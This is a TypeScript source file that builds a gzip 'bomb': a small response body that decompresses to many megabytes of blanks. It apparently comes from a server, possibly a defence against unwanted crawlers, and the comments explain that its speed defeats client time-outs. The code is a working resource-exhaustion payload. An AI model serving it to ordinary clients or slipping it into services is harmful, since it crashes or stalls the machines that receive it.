import { constants, crc32, deflateRawSync } from 'node:zlib';

const megabyte = Buffer.alloc(1 << 20, ' ');

/**
 * Returns a gzip body that unpacks to `megabytes` MB of blanks. It has about 1 KB for each MB, so it arrives quickly
 * and a time-out does not protect a client from it. One compressed megabyte is repeated, because compressing all of
 * them would block the server for seconds.
 */
export function gzipBomb(megabytes: number): Buffer {
  const bomb = made.get(megabytes) ?? make(megabytes);
  made.set(megabytes, bomb);
  return bomb;
}

// Cached: the checksum covers every unpacked byte, and computing it for each answer would delay all others.
const made = new Map<number, Buffer>();

function make(megabytes: number): Buffer {
  const block = deflateRawSync(megabyte, { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: megabytes }, () => block);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(blocks.reduce((sum) => crc32(megabyte, sum), 0));
  trailer.writeUInt32LE(megabytes << 20, 4);
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const lastBlock = Buffer.from([3, 0]);
  return Buffer.concat([header, ...blocks, lastBlock, trailer]);
}
